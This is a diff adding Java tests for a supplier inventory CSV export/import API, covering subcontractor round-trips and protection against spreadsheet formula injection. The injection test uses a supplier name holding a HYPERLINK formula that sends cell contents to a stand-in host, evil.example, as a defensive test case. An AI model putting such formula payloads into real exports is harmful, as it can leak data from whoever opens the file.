@@ -154,6 +154,35 @@ class InventoryResourceTest {
     }
 
     @Test
+    void roundTripsASubcontractorKnownOnlyByANameWithSpaces() {
+        long partner = Api.createSupplier(Api.unique("Hosting Partner NV"));
+        as(admin()).body(Map.of("subcontractorId", partner)).post("/api/suppliers/" + supplier + "/subcontractors")
+                .then().statusCode(204);
+        String csv = onlyRows(as(admin()).queryParam("kind", "suppliers").get("/api/inventory/export").asString(),
+                supplier, partner);
+
+        importCsv(admin(), "suppliers", csv, false).then().statusCode(200).body("counts.SUPPLIERS.updated", equalTo(2));
+
+        as(admin()).get("/api/suppliers/" + supplier).then().body("subcontractorIds", contains((int) partner));
+    }
+
+    @Test
+    void exportsTextThatLooksLikeAFormulaSoThatSpreadsheetsDoNotRunIt() {
+        String name = "=HYPERLINK(\"https://evil.example/\"&A1;\"click\") " + Api.unique("x");
+        long formula = Api.createSupplier(name);
+        long minus = Api.createSupplier("-1+1 " + Api.unique("Minus"));
+        String csv = onlyRows(as(admin()).queryParam("kind", "suppliers").get("/api/inventory/export").asString(),
+                formula, minus);
+
+        assertThat(rows(csv)).extracting(r -> r.get("name")).allSatisfy(cell ->
+                assertThat(cell).doesNotStartWith("=").doesNotStartWith("-").doesNotStartWith("+").doesNotStartWith("@"));
+
+        importCsv(admin(), "suppliers", csv, false).then().statusCode(200);
+        as(admin()).get("/api/suppliers/" + formula).then().body("name", equalTo(name));
+        as(admin()).get("/api/suppliers/" + minus).then().body("name", startsWith("-1+1 "));
+    }
+
+    @Test
     void createsANewRow() {
         String name = Api.unique("Imported Soft");
         String domain = Api.unique("imported").toLowerCase() + ".example";
@@ -368,6 +397,20 @@ class InventoryResourceTest {
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
+    }
+
+    /** The header and the rows with these ids, so that an import concerns this test's records only. */
+    private static String onlyRows(String csv, long... ids) {
+        List<String> wanted = java.util.Arrays.stream(ids).mapToObj(String::valueOf).toList();
+        String[] lines = csv.split("\r\n");
+        StringBuilder out = new StringBuilder(lines[0]).append("\r\n");
+        for (String line : lines) {
+            if (wanted.contains(line.substring(0, Math.max(0, line.indexOf(','))))) {
+                out.append(line).append("\r\n");
+            }
+        }
+        assertThat(out.toString().split("\r\n")).hasSize(ids.length + 1);
+        return out.toString();
     }
 
     private static List<Map<String, String>> rows(String csv) {
